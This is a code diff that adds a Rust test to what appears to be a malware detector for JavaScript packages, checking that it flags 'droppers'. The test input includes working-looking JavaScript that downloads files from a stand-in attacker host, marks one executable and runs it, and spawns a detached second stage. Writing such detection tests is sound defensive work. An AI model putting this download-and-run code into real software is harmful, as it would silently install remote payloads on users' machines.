@@ -2007,3 +2007,43 @@ fn shell_commands_run_from_javascript_are_read_as_shell() {
     );
     assert!(f.flows.is_empty() && f.dynamic_code.is_empty(), "{f:#?}");
 }
+
+/// A dropper: bytes from the network written to a file that is then run, with every step;
+/// a file written with the package's own data and run, or a download never run, is none.
+#[test]
+fn a_downloaded_file_that_is_run_is_a_dropper() {
+    let f = run("const https = require('https'), fs = require('fs'), os = require('os'), path = require('path');
+        const { execFileSync, spawn, exec } = require('child_process');
+        const p = path.join(os.tmpdir(), 'updater');
+        https.get('https://evil.example.top/bin', (res) => {
+          const f = fs.createWriteStream(p);
+          res.pipe(f);
+          f.on('finish', () => { fs.chmodSync(p, 0o755); execFileSync(p); });
+        });
+        async function two() {
+          const r = await fetch('https://evil.example.top/s.js');
+          fs.writeFileSync('/tmp/stage2.js', Buffer.from(await r.arrayBuffer()));
+          spawn('node', ['/tmp/stage2.js'], { detached: true }).unref();
+        }");
+    let found: Vec<(&str, &str, usize)> = f
+        .droppers
+        .iter()
+        .map(|d| (d.path.as_str(), d.api.as_str(), d.steps.len()))
+        .collect();
+    assert_eq!(
+        found,
+        vec![
+            ("*/updater", "child_process.execFileSync", 4),
+            ("/tmp/stage2.js", "child_process.spawn", 3)
+        ],
+        "{:#?}",
+        f.droppers
+    );
+    let benign = run("const https = require('https'), fs = require('fs');
+        const { execFileSync } = require('child_process');
+        fs.writeFileSync('/tmp/build.sh', 'echo hi');
+        execFileSync('/tmp/build.sh');
+        https.get('https://registry.example.top/data.json', (res) => res.pipe(fs.createWriteStream('/tmp/data.json')));
+        execFileSync('node', ['/tmp/other.js']);");
+    assert!(benign.droppers.is_empty(), "{:#?}", benign.droppers);
+}
